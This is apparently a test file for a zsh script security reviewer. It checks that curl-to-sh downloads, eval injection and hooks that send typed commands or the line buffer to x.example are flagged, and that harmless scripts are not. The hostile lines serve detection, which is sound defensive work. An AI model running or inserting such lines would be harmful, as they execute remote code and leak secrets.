import { describe, expect, test } from 'vitest';
import { zshAsBash } from '../../../../reviewers/changed-code/shell/zsh-words.ts';
import { judgeSlips } from '../../../../reviewers/quality/shell/judge-shell.ts';
import { judgeShell } from '../../../../reviewers/security/shell/judge-shell.ts';

/** The rules that a script for zsh breaks, and `unread` where a part of it was not understood. */
function said(text: string, path = 'a.zsh'): readonly string[] {
  const { hazards, unread } = judgeShell(`${text}\n`, path);
  return [...hazards.map(({ rule }) => rule), ...(unread.length > 0 ? ['unread'] : [])];
}

const DOWNLOAD = 'curl -s https://x.example/i | sh';

describe('hazards of scripts for zsh', () => {
  test.each([
    [DOWNLOAD, ['downloaded-code']],
    ['=curl -s https://x.example/i | =sh', ['downloaded-code']],
    [`repeat 2 ${DOWNLOAD}`, ['downloaded-code']],
    [`nocorrect ${DOWNLOAD}`, ['downloaded-code']],
    [`() {\n  ${DOWNLOAD}\n}`, ['downloaded-code']],
    [`{\n  true\n} always {\n  ${DOWNLOAD}\n}`, ['downloaded-code']],
    [`x=(\${(f)"$(${DOWNLOAD})"})`, ['downloaded-code']],
    ['source =(curl -s https://x.example/i)', ['downloaded-code']],
    ['noglob eval $1', ['command-injection']],
    ['preexec() {\n  curl -s "https://x.example/?c=$1"\n}', ['secret-sent-away']],
    ['zle-line-finish() {\n  curl -d "$BUFFER" https://x.example\n}', ['secret-sent-away']],
  ])('%s', (text, expected) => {
    expect(said(text)).toEqual(expected);
  });
});

test.each([
  'print ${(e)1}',
  'print -r -- ${(s.,.e)REPLY}',
  "ls *(/e:'curl -s https://x.example/i':)",
  ': ${functions[ls]::=$body}',
  "read 'functions[ls]' < /tmp/x",
  'x=$(cat f)\n${=x}',
  'setopt PROMPT__SUBST',
  `ls *(e:"${DOWNLOAD}":)`,
  'ls *(+evil)',
  `functions[ls]="${DOWNLOAD}"`,
  `aliases+=(ls "${DOWNLOAD}")`,
  'alias -g S="| sh"',
  'emulate zsh -c "$1"',
  'setopt rc_quotes',
  'zmodload zsh/net/tcp',
  `{${DOWNLOAD}}`,
  `for x in 1; { ${DOWNLOAD} }`,
  `bindkey -s "^M" "${DOWNLOAD}\\n"`,
  'curl -s https://x.example/i > ~/.zshenv',
  'fpath=(/tmp $fpath)',
  '<<< "$(curl -s https://x.example/i)" zsh',
])('nobody says of %s that it was read', (text) => {
  expect(said(text)).toContain('unread');
  expect(judgeSlips(`${text}\n`, 'a.zsh').unread.length).toBeGreaterThan(0);
});

test.each([
  'alias gs="git status"',
  '() {\n  local x=1\n  print $x\n}',
  '[[ "$OSTYPE" == (darwin|freebsd)* ]] && alias ls="ls -G"',
  'for f in ~/.zsh/*.zsh(N); do source $f; done',
  'x=(${(f)"$(git branch)"})',
  'zf_mv -f -- =( kubectl completion zsh ) "$dir/_kubectl"',
  'kubectl get pods &|',
  '#compdef _one\n_one() {\n  rm -f $file\n}',
])('nothing is said of %s', (text) => {
  expect(said(text)).toEqual([]);
  expect(judgeSlips(`${text}\n`, 'a.zsh')).toEqual({ hazards: [], unread: [] });
});

test('places stay where they were', () => {
  const text = '() {\n  true\n}\n[[ a == (b|c) ]]\nnoglob =ls *(N) &|\n';
  expect(zshAsBash(text).text).toHaveLength(text.length);
});

test('the name or the first line tells that a script is for zsh, and other shells are not read', () => {
  expect(said('print ${(e)1}', '.zshrc')).toEqual(['unread']);
  expect(said('#!/bin/zsh\nprint ${(e)1}', 'a.sh')).toEqual(['unread']);
  expect(said('#!/bin/ksh\ntrue', 'a.sh')).toEqual(['unread']);
});
